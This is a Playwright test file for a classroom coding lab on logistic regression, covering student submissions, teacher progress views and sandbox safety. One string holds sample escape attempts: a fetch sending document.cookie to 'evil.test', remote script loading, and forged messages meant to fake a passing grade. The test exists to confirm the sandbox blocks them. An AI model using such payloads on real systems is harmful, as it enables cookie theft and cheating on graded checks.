import { expect, type Page, test } from "@playwright/test";
import { CORRECT, SIGN_ERROR } from "./lab-code";
import { createClass, joinAsStudent, screenshot, signUpTeacher } from "./support";

const ESCAPE_ATTEMPTS = `const tried = [];
try { fetch("https://evil.test/steal?c=" + document.cookie); } catch (e) { tried.push("fetch"); }
try { importScripts("https://evil.test/x.js"); } catch (e) { tried.push("importScripts"); }
try { self.postMessage({ pass: true }); } catch (e) { tried.push("postMessage"); }
try { Object.getPrototypeOf(self).postMessage.call(self, { type: "outputs", nonce: "guess", outputs: [] }); } catch (e) { tried.push("proto"); }
try { (() => {}).constructor("return fetch")()("https://evil.test/ctor"); } catch (e) { tried.push("ctor"); }
try { new XMLHttpRequest(); } catch (e) { tried.push("xhr"); }
try { setTimeout("fetch('https://evil.test/t')", 0); } catch (e) { tried.push("timeout"); }
function sigmoid(z) { return 0.5; }
function train() { return { pass: true, passed: true }; }
`;

async function typeCode(page: Page, code: string) {
  const editor = page.getByRole("textbox", { name: "Code editor" });
  await editor.click();
  await page.keyboard.press("ControlOrMeta+A");
  await page.keyboard.press("Delete");
  await page.keyboard.insertText(code);
}

async function run(page: Page) {
  await page.getByRole("button", { name: "Run checks" }).click();
}

test("a student implements logistic regression in the lab, the teacher sees it", async ({ browser }) => {
  const errors: string[] = [];
  const teacher = await signUpTeacher(browser, errors);
  const code = await createClass(teacher.page, "Lab class");
  const { page } = await joinAsStudent(browser, code, "Ada", errors);

  await page.goto("/lab/cats-or-dogs");
  await expect(
    page.getByRole("heading", { name: "Implement logistic regression from scratch" }),
  ).toBeVisible();
  // The lesson's listing, verbatim, beside the editor.
  await expect(page.getByText("def compute_gradients(w, b, X, y):")).toBeVisible();
  await expect(page.getByRole("status", { name: "Objective progress" })).toContainText("Not yet");
  await screenshot(page, "lab-starter");

  // A sign error in the gradient: the gradient check fails with a hint, the others pass.
  await typeCode(page, SIGN_ERROR);
  await run(page);
  const checks = page.getByRole("list", { name: "Check results" });
  await expect(
    checks.getByRole("listitem", { name: "computeGradients: shape and values: failed" }),
  ).toContainText("opposite sign");
  await expect(checks.getByRole("listitem", { name: "sigmoid(0) = 0.5: passed" })).toBeVisible();
  await expect(checks.getByRole("listitem", { name: /Training loop .*: failed/ })).toContainText("uphill");
  await expect(page.getByText("6 of 8 checks pass.")).toBeVisible();
  await screenshot(page, "lab-buggy");

  // The correct solution passes every check and completes the objective.
  await typeCode(page, CORRECT);
  await run(page);
  await expect(page.getByText("8 of 8 checks pass.")).toBeVisible();
  await expect(page.getByText("All checks pass")).toBeVisible();
  await expect(page.getByRole("status", { name: "Objective progress" })).toContainText("Completed");
  await expect(page.getByRole("heading", { name: "Your loss curve" })).toBeVisible();
  await expect(page.getByRole("heading", { name: "Your decision boundary" })).toBeVisible();
  await page.waitForTimeout(500);
  await screenshot(page, "lab-passed");

  // The draft is saved: a reload brings the code back.
  await typeCode(page, `// keep going\n${CORRECT}`);
  await expect(page.getByText("Unsaved changes…")).toBeVisible();
  await expect(page.getByText("Draft saved")).toBeVisible();
  await page.reload();
  await expect(page.getByText("// keep going")).toBeVisible();
  await expect(page.getByRole("button", { name: "Restore last passing version" })).toBeVisible();

  // The teacher sees the lab in the class progress grid and opens the code read-only from it.
  await teacher.page.reload();
  const grid = teacher.page.getByRole("table", { name: "Lesson progress" });
  const row = grid.getByRole("row", { name: /Ada/ });
  await expect(row.getByRole("link", { name: /^Ada's code: Passed ✓/ })).toBeVisible();
  await expect(row).toContainText("Completed ✓"); // the from-scratch objective, completed by the lab
  await row.getByRole("link", { name: /^Ada's code/ }).click();
  await expect(teacher.page.getByRole("heading", { name: "Ada's code" })).toBeVisible();
  const readOnly = teacher.page.getByRole("textbox", { name: "Ada's code (read-only)" });
  await expect(readOnly).toContainText("// keep going");
  await expect(readOnly).toHaveAttribute("contenteditable", "false");
  await screenshot(teacher.page, "lab-teacher");
  expect(errors).toEqual([]);
});

test("an infinite loop is stopped and escape attempts cannot fake a pass", async ({ browser }) => {
  const errors: string[] = [];
  const teacher = await signUpTeacher(browser, errors);
  const code = await createClass(teacher.page, "Sandbox class");
  const { page } = await joinAsStudent(browser, code, "Eve", errors);
  const requests: string[] = [];
  page.context().on("request", (request) => requests.push(request.url()));
  await page.goto("/lab/cats-or-dogs");
  await expect(page.getByRole("textbox", { name: "Code editor" })).toBeVisible();

  await typeCode(page, "function sigmoid(z) { while (true) {} }\n");
  const started = Date.now();
  await run(page);
  await expect(
    page
      .getByRole("alert")
      .filter({ hasText: "Your code ran for more than 3 s — is there an infinite loop?" }),
  ).toBeVisible({ timeout: 8000 });
  expect(Date.now() - started).toBeLessThan(6000);
  await screenshot(page, "lab-infinite-loop");
  // The page stays usable: the next run works.
  await expect(page.getByRole("button", { name: "Run checks" })).toBeEnabled();

  await typeCode(page, ESCAPE_ATTEMPTS);
  await run(page);
  const checks = page.getByRole("list", { name: "Check results" });
  await expect(checks.getByRole("listitem", { name: "sigmoid(0) = 0.5: passed" })).toBeVisible();
  await expect(checks.getByRole("listitem", { name: /Training loop .*: failed/ })).toBeVisible();
  await expect(page.getByText("1 of 8 checks pass.")).toBeVisible();
  await expect(page.getByText("All checks pass")).toHaveCount(0);
  await expect(page.getByRole("status", { name: "Objective progress" })).toContainText("Not yet");
  await screenshot(page, "lab-escape");
  expect(requests.filter((url) => url.includes("evil.test"))).toEqual([]);

  // TypeScript: annotations are stripped in the browser before the sandbox runs the code.
  await page.getByRole("radio", { name: "TypeScript" }).check();
  await typeCode(page, "function sigmoid(z: number): number {\n  return 1 / (1 + Math.exp(-z));\n}\n");
  await run(page);
  await expect(checks.getByRole("listitem", { name: "sigmoid on random z: passed" })).toBeVisible();
  await expect(checks.getByRole("listitem", { name: "sigmoid saturates without NaN: passed" })).toBeVisible();
  expect(await page.title()).toContain("Coding lab");
  expect(errors).toEqual([]);
});
